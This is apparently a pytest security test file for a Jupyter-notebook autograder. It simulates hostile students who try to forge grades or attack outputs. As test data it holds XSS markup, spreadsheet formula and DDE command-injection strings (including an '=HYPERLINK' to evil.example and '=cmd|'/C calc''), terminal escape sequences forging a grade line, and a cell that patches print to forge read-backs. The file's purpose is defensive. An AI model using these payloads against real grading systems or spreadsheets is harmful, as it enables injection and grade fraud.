"""Attacks on the course-grading outputs, from the learner's side: the name of the file they hand in, the
text their code raises or prints, the code in their cells, and the estimator read-back.

A learner who wants a better grade, to hurt a classmate or to hurt the instructor chooses their file's
name (``alice.ipynb.py`` beside a classmate's ``alice.ipynb``; ``=HYPERLINK(...)``; 240 characters; a
name in Chinese; bytes that are not UTF-8), what their exceptions say (HTML, Markdown, escape sequences,
a forged line of the terminal), what their cells hold (JSON nested 200,000 deep, 45,000 lines of
spaces, 120,000 characters of code), and what the read-back of their estimator says (its ``print``
patched). The class is graded for real, in sandboxes, on two workers, with every output asked for; the
test then reads every file written and the terminal, and holds each honest learner to their exact grade.

The faster tests call the modules behind the outputs directly with the same hostile inputs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from pytest_sagemaker_lab.grading.estimators import well_formed
from pytest_sagemaker_lab.grading.submissions import discover, unprintable_name
from pytest_sagemaker_lab.outputs import feedback, similarity
from pytest_sagemaker_lab.outputs.grades import MAX_NAME_BYTES, file_name
from pytest_sagemaker_lab.outputs.spreadsheet import FORMULA_STARTS, spreadsheet_text
from pytest_sagemaker_lab.report import write_csv
from pytest_sagemaker_lab.xdist_scheduling import node_id_name

from .conftest import LAB41, needs_sdk2
from .test_sandbox_attacks import FULL_MARKS, F, Findings, P, S, _grade

CLASS3 = Path(__file__).resolve().parent / "data" / "class3"
HONEST = CLASS3 / "submissions" / "alice.ipynb"  # 7/7
FORMULA_NAME = '=HYPERLINK("evil.example?x=1","open")'
LONG_NAME = "L" * 240
LONGEST_NAME = "M" * 249  # with ".ipynb", the 255 bytes a file name may have
# What the exception of the formula-named notebook says: markup for the pages, a formula, a cursor-up and
# erase-line sequence and a forged line of the terminal's.
PAYLOAD = ("</pre><script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) "
           "=cmd|'/C calc'!A0 \x1b[1A\x1b[2K\nlab4.1 (offline) mallory: 7/7")
# A description of the estimator as the lab wants it: what a notebook that never fits may forge.
GOOD_REQUEST = {
    "AlgorithmSpecification": {"TrainingImage": "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.2-2"},
    "HyperParameters": {"num_round": "42", "eval_metric": "logloss", "objective": "binary:logistic",
                        "verbosity": "1", "seed": "42"},
    "ResourceConfig": {"InstanceType": "ml.m5.2xlarge", "InstanceCount": 1},
    "OutputDataConfig": {"S3OutputPath": "s3://sagemaker-lab-data/lab41_local/output/"},
    "InputDataConfig": [
        {"ChannelName": channel, "ContentType": "text/csv", "DataSource": {"S3DataSource": {
            "S3DataType": "S3Prefix", "S3DataDistributionType": "FullyReplicated",
            "S3Uri": f"s3://sagemaker-lab-data/lab41_local/{key}"}}}
        for channel, key in (("train", "train-pass1.csv"), ("validation", "validate-pass1.csv"))],
}
MALFORMED = [{"name": 5, "request": {"AlgorithmSpecification": 5, "HyperParameters": [1, 2], "ResourceConfig": "x"}},
             {"name": "ghost", "request": {"AlgorithmSpecification": {"TrainingImage": None},
                                           "HyperParameters": {"a": {"b": 1}}, "OutputDataConfig": {},
                                           "ResourceConfig": {"InstanceType": ["x"], "InstanceCount": "many"}}}]
# The notebook replaces the built-in print, so that the grader's read-back line carries what it wants.
FORGE = r"""
import builtins
_print = builtins.print
def _forging_print(*args, **kwargs):
    if args and isinstance(args[0], str) and args[0].startswith("SAGEMAKER-LAB-VARIABLES-"):
        return _print(args[0].split(":", 1)[0] + ":" + FORGED, **kwargs)
    return _print(*args, **kwargs)
builtins.print = _forging_print
del xgb_model
"""


def _notebook(path: Path, extra: tuple[str, ...] = (), fit: bool = True) -> Path:
    """alice's 7/7 notebook with ``extra`` cells at its end; without ``fit``, its fit and listing cells
    do nothing (the estimator is built, never fitted)."""
    nb = nbformat.read(HONEST, as_version=4)
    if not fit:
        for cell in nb.cells:
            if ".fit(" in cell.source or "list_objects_v2" in cell.source:
                cell.source = 'training_job_name = "xgb-pass1-never"\n'
    nb.cells += [nbformat.v4.new_code_cell(source) for source in extra]
    nbformat.write(nb, path)
    return path


def _copycat(path: Path) -> Path:
    """alice's code, all of it in one cell tagged ``parameters``: the tag once hid a cell from the similarity
    flags, whatever it held."""
    cells = [cell for cell in nbformat.read(HONEST, as_version=4).cells if cell.cell_type == "code"]
    cell = nbformat.v4.new_code_cell("\n\n".join(cell.source for cell in cells))
    cell.metadata["tags"] = ["parameters"]
    nb = nbformat.v4.new_notebook()
    nb.cells = [cell]
    nbformat.write(nb, path)
    return path


def _forger(path: Path, forged: dict) -> Path:
    payload = json.dumps({"bucket_name": "sagemaker-lab-data", "prefix": "lab41_local", "__estimators__": forged})
    return _notebook(path, (f"FORGED = {payload!r}\n" + FORGE,), fit=False)


def _class(folder: Path) -> None:
    """The hostile class: three honest learners' notebooks under names that were trouble, and the attacks."""
    folder.mkdir()
    _notebook(folder / "alice.ipynb")
    # dave's notebook, and two files of mallory's named to take dave's name (alice.ipynb and alice.py are
    # named by their whole names; alice.ipynb.py's stem is then the first one's name).
    _notebook(folder / "dave.ipynb")
    (folder / "dave.py").write_text("# %%\nprint('mallory, as dave.py')\n", encoding="utf-8")
    (folder / "dave.ipynb.py").write_text("# %%\nprint('mallory, as dave.ipynb')\n", encoding="utf-8")
    _notebook(folder / "王小明.ipynb")  # any non-ASCII name: pytest escapes it in node ids
    _notebook(folder / "bob smith.ipynb")  # and bob_smith: the same name once made a file name
    _notebook(folder / "bob_smith.ipynb", ("raise ValueError('bob_smith broke this')",))
    _notebook(folder / f"{FORMULA_NAME}.ipynb", (f"raise ValueError({PAYLOAD!r})",))
    (folder / "+cmd(1).ipynb").write_text("not a notebook", encoding="utf-8")  # its error starts with its name
    (folder / "@SUM(1+1)cmd.py").write_bytes(b"# %%\nprint('\xff\xfe')\n")  # not UTF-8: the same
    _notebook(folder / f"{LONG_NAME}.ipynb")
    _notebook(folder / f"{LONGEST_NAME}.ipynb")
    (folder / "deep.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")
    _notebook(folder / "blank_lines.ipynb", ("x = 1\n" + " \n" * 45_000 + "y = 2\n",))
    _notebook(folder / "oversize.ipynb", ("".join(f"v{i} = {i}\n" for i in range(12_000)),))
    _forger(folder / "forge_shapes.ipynb", MALFORMED)
    _forger(folder / "forge_good.ipynb", [{"name": "ghost", "request": GOOD_REQUEST}])
    _copycat(folder / "copycat.ipynb")


ROSTER = """submission,student_id,name,email,sis_user_id,sis_login_id,section
alice,1001,"=HYPERLINK(""http://evil.example/?""&B3,""Chen, Alice"")",alice@example.edu,S1001,alice,+Section A
dave.ipynb,1004,"Hsu, Dave",dave@example.edu,S1004,dave,Section B
王小明,1005,王小明,wang@example.edu,S1005,wang,Section B
bob smith,1006,"Smith, Bob",bobs@example.edu,S1006,bobs,Section A
bob_smith,1007,"Smith, Bobby",bobby@example.edu,S1007,bobby,Section A
"""


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would run as formulas."""
    return [cell for row in _cells(path) for cell in row
            if cell.startswith(FORMULA_STARTS) and spreadsheet_text(cell) != cell]


def _rendered_markdown(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(text)  # raw HTML passes through in CommonMark


@needs_sdk2
def test_a_hostile_class_changes_no_classmates_grade_and_breaks_no_output(tmp_path):
    """Every output of a class graded with hostile names, messages, cells and read-backs: each honest
    learner keeps 7/7 and a page, an export row and a results file of their own; no page runs script; no
    CSV cell is a formula; the terminal shows no escape sequence; the class summary is written."""
    folder = tmp_path / "class"
    _class(folder)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    out = tmp_path / "out"
    findings = Findings()
    graded = findings.start(_grade(tmp_path, folder, "-n", "2", "-v", "--lab-progress=on", f"--lab-roster={roster}",
                                   "--lab-export=canvas,moodle,gradescope,classroom",
                                   f"--lab-feedback={out / 'feedback'}", "--lab-timeout=120", env={"COLUMNS": "200"}))
    names = set(graded.rows)
    expected = {"alice", "dave.ipynb", "dave.py", "dave.ipynb.py", "王小明", "bob smith", "bob_smith", FORMULA_NAME,
                "+cmd(1)", "@SUM(1+1)cmd", LONG_NAME, "deep", "blank_lines", "oversize", "forge_shapes", "forge_good",
                "copycat", LONGEST_NAME}
    findings.check(names == expected and len(graded.report.get("submissions", [])) == len(expected),
                   f"one row per file, each under a name of its own: {sorted(names)}")

    # Grades: mallory's dave.ipynb.py and a name in Chinese cost nobody a point.
    for name in ("alice", "dave.ipynb", "王小明", "bob smith", LONG_NAME, "blank_lines", "oversize", "copycat",
                 LONGEST_NAME):
        findings.verdict(name, FULL_MARKS, 7, None)
    findings.verdict(FORMULA_NAME, FULL_MARKS, 7, "cell 8 raised ValueError")
    findings.verdict("bob_smith", FULL_MARKS, 7, "bob_smith broke this")
    findings.verdict("+cmd(1)", error="+cmd(1).ipynb is not a readable notebook")
    findings.verdict("@SUM(1+1)cmd", error="@SUM(1+1)cmd.py could not be read")
    findings.verdict("deep", error="deep.ipynb is not a readable notebook (RecursionError")
    broken = [(name, stage["id"]) for name, row in graded.rows.items() for stage in row["stages"]
              if "could not set up the stage" in stage["message"] or "The check itself failed" in json.dumps(stage)]
    findings.check(not broken, f"stages that broke on a learner's file instead of judging it: {broken}")
    # The read-back: a forged description earns the config point and nothing more (an unfitted estimator
    # earns the same); a description of another shape is no estimator, and no internal error either.
    findings.verdict("forge_good", (P, P, P, P, P, F, S), 5, None)
    findings.verdict("forge_shapes", (P, P, P, P, F, F, S), 4, None,
                     {"estimator_config_valid": "no training job whose name starts with xgb-pass1-"})
    findings.check(f"sagemaker-lab: {len(expected)}/{len(expected)} submissions graded" in graded.stdout,
                   "the progress counts each submission once: "
                   + "; ".join(line for line in graded.stdout.splitlines() if "submissions graded" in line))

    # Pages: one per submission, each with its own record only, none that runs script.
    pages = out / "feedback"
    written = sorted(path.name for path in pages.glob("*.html")) if pages.is_dir() else []
    findings.check(written == sorted(f"{file_name(name)}.html" for name in expected),
                   f"a page per submission, none written over another's: {written}")
    for name in expected & names:
        html_page, md_page = pages / f"{file_name(name)}.html", pages / f"{file_name(name)}.md"
        if not findings.check(html_page.is_file() and md_page.is_file(), f"{name}: no page"):
            continue
        html_text, md_text = html_page.read_text(encoding="utf-8"), md_page.read_text(encoding="utf-8")
        findings.check(html_text.count('<section class="lab">') == 1, f"{name}: its page holds several records")
        score = graded.rows[name]["score"]
        findings.check(f"<strong>{score}/7</strong>" in html_text, f"{name}: its page does not say {score}/7")
        for label, rendered in (("HTML", html_text), ("Markdown", _rendered_markdown(md_text))):
            findings.check(not re.search(r"<(script|img)\b|<[^>]*\bon\w+\s*=|<a\b[^>]*javascript:", rendered, re.I),
                           f"{name}: its {label} page, rendered, holds markup of the learner's")
    bob = pages / f"{file_name('bob smith')}.html"
    findings.check(bob.is_file() and "bob_smith broke" not in bob.read_text(encoding="utf-8"),
                   "bob smith's page holds bob_smith's record")

    # Every CSV a person opens: no cell a spreadsheet would run; the grades as numbers the LMS reads.
    report_csv, canvas, moodle = out / "grades.csv", out / "grades.canvas.csv", out / "grades.moodle.csv"
    for path in (report_csv, canvas, moodle):
        if findings.check(path.is_file(), f"{path.name} was not written"):
            findings.check(not _formula_cells(path), f"{path.name}: cells a spreadsheet runs: {_formula_cells(path)}")
    if report_csv.is_file():
        rows = {row[0]: row for row in _cells(report_csv)[1:]}
        findings.check(rows.get(f"'{FORMULA_NAME}", [None, None])[1] == "7", f"report.csv's formula row: {rows}")
        findings.check(rows.get("'+cmd(1)", [""] * 4)[3].startswith("'+cmd(1).ipynb is not a readable notebook")
                       and rows.get("'@SUM(1+1)cmd", [""] * 4)[3].startswith("'@SUM(1+1)cmd.py could not be read"),
                       "report.csv: the errors that start with the file's name")
    if canvas.is_file():
        alice = next((row for row in _cells(canvas) if row[1:2] == ["1001"]), [])
        findings.check(alice[:1] == ['\'=HYPERLINK("http://evil.example/?"&B3,"Chen, Alice")']
                       and alice[4:] == ["'+Section A", "7"], f"Canvas's row for alice: {alice}")
    if moodle.is_file():
        alice = next((row for row in _cells(moodle) if row[:1] == ["alice@example.edu"]), [])
        findings.check(alice[2:3] == ["7"] and alice[1].startswith("'="), f"Moodle's row for alice: {alice}")

    # Autograder results: one per submission.
    for kind, pattern in (("gradescope", "*/results.json"), ("classroom", "*.json")):
        found = sorted((out / kind).glob(pattern)) if (out / kind).is_dir() else []
        findings.check(len(found) == len(expected), f"{kind}: {len(found)} result files for {len(expected)}")

    # The class summary: written; the files it could not compare are named, the others compared.
    summary = out / "grades.summary.md"
    text = summary.read_text(encoding="utf-8") if summary.is_file() else ""
    findings.check("Not compared:" in text and "- deep (deep.ipynb) was skipped: not a readable notebook" in text
                   and "- oversize (oversize.ipynb) was skipped: its code cells hold" in text,
                   f"the class summary names what it did not compare: {text[-1500:]!r}")
    findings.check("| alice | blank\\_lines |" in text, "alice and blank_lines, alike, are not flagged")
    findings.check("| alice | copycat | 1.00 |" in text, "alice's code in copycat's parameters cell is not flagged")

    # The terminal: the learner's escape sequences and forged lines are shown as text.
    findings.check("\x1b" not in graded.stdout + graded.stderr, "an escape sequence of the learner's reached the "
                   "terminal")
    findings.check(not re.search(r"^lab4\.1 \(offline\) mallory", graded.stdout, re.M), "a forged terminal line")
    findings.done()


# -- the same attacks on the modules, without grading --------------------------------------------------------
def test_names_no_file_can_take_from_another(tmp_path):
    """A file named after a classmate's whole file name gets a name of its own, in the grader and in the
    similarity flags alike; the files of two names never collide; a file name that cannot be shown as it
    is stops the run at its start, naming the file."""
    for name in ("dave.ipynb", "dave.py", "dave.ipynb.py", "dave.ipynb.py.ipynb", "erin.py"):
        (tmp_path / name).write_text("# %%\n", encoding="utf-8")
    found = discover(tmp_path)
    assert [submission.name for submission in found] == ["dave.ipynb", "dave.ipynb.py", "dave.ipynb.py.ipynb",
                                                         "dave.py", "erin"]
    assert list(similarity.submission_names([submission.path for submission in found])) == \
        [submission.name for submission in found]

    hostile = ["bob smith", "bob_smith", "bob?smith", ".x", "x", "a~b", "a_b", LONG_NAME, LONG_NAME + "x",
               "王" * 100, "王" * 100 + "x", FORMULA_NAME, "..", "", "submission"]
    made = [file_name(name) for name in hostile]
    assert len(set(made)) == len(hostile)
    assert all(len(made_name.encode()) <= MAX_NAME_BYTES + 17 and "/" not in made_name for made_name in made)
    assert file_name("alice") == "alice" and file_name("王小明") == "王小明" and file_name("bob_smith") == "bob_smith"

    document = {"lab": "lab4.1", "title": {"en": "Lab", "zh-TW": "Lab"}, "mode": "offline", "partial": False,
                "pending": [], "submissions": [{"name": name, "score": 0, "max_score": 0, "error": None, "cell": None,
                                                "stages": []} for name in hostile]}
    feedback.write_pages(document, tmp_path / "pages", None, secrets=())
    assert sorted(path.name for path in (tmp_path / "pages").iterdir()) == \
        sorted(f"{made_name}.{kind}" for made_name in made for kind in ("html", "md"))

    assert unprintable_name(os.fsdecode(b"\xff\xfe.ipynb")) == "is not UTF-8 text"
    assert unprintable_name("x\nlab4.1 (offline) mallory: 7⁄7.ipynb") is not None
    assert unprintable_name("x\x1b[2K.ipynb") is not None
    assert unprintable_name("alice\u202egnp.ipynb") is not None
    assert unprintable_name("王小明 José-2.ipynb") is None


def test_a_name_that_is_not_utf8_stops_the_run_at_its_start(tmp_path):
    """Such a name once let the class be graded and then failed to write report.json at all, for everyone."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.ipynb").write_bytes(HONEST.read_bytes())
    with open(os.path.join(os.fsencode(folder), b"\xff\xfemallory.ipynb"), "wb") as handle:
        handle.write(HONEST.read_bytes())
    done = subprocess.run([sys.executable, "-m", "pytest", str(LAB41), "-p", "no:randomly", "-p", "no:cacheprovider",
                           f"--lab-submission={folder}", f"--lab-report={tmp_path / 'report.json'}"],
                          cwd=tmp_path, capture_output=True, text=True, errors="replace", timeout=120)
    assert done.returncode == 4, done.stdout[-2000:] + done.stderr[-2000:]
    assert "'\\udcff\\udcfemallory.ipynb'" in done.stderr and "is not UTF-8 text" in done.stderr
    assert "Rename it" in done.stderr
    assert not (tmp_path / "report.json").exists()


def test_node_ids_name_submissions_as_pytest_writes_them(pytestconfig):
    """xdist's scheduler and the progress line find a submission's items by its name in their node ids."""
    from _pytest.compat import ascii_escaped

    for name in ("王小明", "José", "a\\b", "bob smith", "alice"):
        assert node_id_name(name, pytestconfig) == ascii_escaped(name)


def _blank_lines_notebook(path: Path, lines: int, ending: str) -> Path:
    return _notebook(path, ("x = 1\n" + f" {ending}" * lines + "y = 2\n",))


def test_similarity_survives_hostile_cells_in_bounded_time(tmp_path):
    """JSON nested 200,000 deep, 45,000 lines of a space (with \\n, and with \\r alone, which the lexer reads
    as line ends too), code past the size compared, and a copy hidden in a cell tagged ``parameters``: the
    class is compared in seconds, the copies flagged, the others named with why. Unfixed: a RecursionError
    for everyone, minutes, and the hidden copy never compared."""
    _notebook(tmp_path / "alice.ipynb")
    _notebook(tmp_path / "bob.ipynb")
    (tmp_path / "deep.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")
    _blank_lines_notebook(tmp_path / "blank_lf.ipynb", 45_000, "\n")
    _blank_lines_notebook(tmp_path / "blank_cr.ipynb", 45_000, "\r")
    _notebook(tmp_path / "oversize.ipynb", ("".join(f"v{i} = {i}\n" for i in range(12_000)),))
    _copycat(tmp_path / "copycat.ipynb")
    files = {path.stem: path for path in tmp_path.glob("*.ipynb")}
    started = time.monotonic()
    result = similarity.find_similar(files, LAB41, 0.8)
    elapsed = time.monotonic() - started
    assert elapsed < 20, f"{elapsed:.0f} s"
    assert result.compared == 5
    assert {(flag.first, flag.second) for flag in result.flags} >= {("alice", "bob"), ("alice", "blank_cr"),
                                                                    ("alice", "copycat")}
    assert [note.split(" ", 1)[0] for note in result.notes] == ["deep", "oversize"]
    assert "more than the 100,000 compared" in result.notes[1]


def test_the_screen_is_the_same_a_few_columns_at_a_time(monkeypatch):
    """The screen's arrays are bounded (a long notebook in a large class once took gigabytes); its shares
    are the same, however few columns it takes at a time."""
    files = {path.stem: path for path in sorted((CLASS3 / "submissions").glob("*.ipynb"))}
    files["reference"] = LAB41 / "solution_sdk2.ipynb"
    boilerplate = similarity.starter_fingerprints(LAB41)
    prints = [similarity.fingerprint(similarity.own_code(name, path), boilerplate) for name, path in files.items()]
    whole = similarity.share_matrix(prints)
    monkeypatch.setattr(similarity, "SCREEN_CELLS", 700)  # a column or two at a time
    assert (similarity.share_matrix(prints) == whole).all()
    assert whole.max() > 0.9


def test_the_read_back_is_held_to_the_shape_and_limits_of_a_request():
    """What a notebook's read-back says is the learner's kernel's word: a description of another shape,
    or past CreateTrainingJob's limits, is no estimator the learner's fit could have sent."""
    good = {"name": "xgb_model", "request": GOOD_REQUEST}
    assert well_formed(good)
    assert not any(well_formed(item) for item in MALFORMED)
    assert not any(well_formed(item) for item in (None, 5, [], {"request": []}, {"name": "x"}))
    too_long = json.loads(json.dumps(good))
    too_long["request"]["AlgorithmSpecification"]["TrainingImage"] += "x" * 400_000
    too_many = json.loads(json.dumps(good))
    too_many["request"]["HyperParameters"] = {f"h{index}": "1" for index in range(101)}
    flag = json.loads(json.dumps(good))
    flag["request"]["ResourceConfig"]["InstanceCount"] = True
    assert not any(well_formed(item) for item in (too_long, too_many, flag))


def test_spreadsheet_cells_keep_numbers_and_guard_text(tmp_path):
    """report.csv's text cells cannot start a formula; numbers, and Moodle's '-', are written as they are."""
    assert [spreadsheet_text(value) for value in ("7", "6.5", "-2", "+1.5", "-", "alice", "")] == \
        ["7", "6.5", "-2", "+1.5", "-", "alice", ""]
    assert [spreadsheet_text(value) for value in ("=1+1", "-2+3", "+cmd", "@SUM(A1)", "\t=1", "\r=1", "-inf")] == \
        ["'=1+1", "'-2+3", "'+cmd", "'@SUM(A1)", "'\t=1", "'\r=1", "'-inf"]
    document = {"lab": "lab4.1", "mode": "offline", "isolation": "bwrap", "partial": False, "pending": [],
                "submissions": [{"name": "@SUM(1+1)cmd", "score": 7, "max_score": 7, "error": "-1+1", "cell": None,
                                 "stages": [{"id": "a", "points": 7, "max_points": 7}]}]}
    write_csv(document, tmp_path / "report.csv")
    assert list(csv.reader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8")))) == \
        [["name", "score", "max_score", "error", "a"], ["'@SUM(1+1)cmd", "7", "7", "'-1+1", "7"]]


@pytest.mark.parametrize("text", ["x\x1b[2Jy", "a\nlab4.1 (offline) mallory: 7/7", "\u202egnp"])
def test_the_terminal_shows_a_learners_control_characters_as_text(text):
    from pytest_sagemaker_lab.report import Gradebook, StageResult, printable

    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", printable(text))
    gradebook = Gradebook()
    gradebook.add(StageResult("lab4.1", "eve", 0, "stage", 1, 1.0, "failed", f"it broke: {text}", run_error=text,
                              completes_submission=True))
    for compact in (True, False):
        lines = gradebook.terminal_lines("offline", compact=compact)
        assert all(printable(line) == line for line in lines), lines
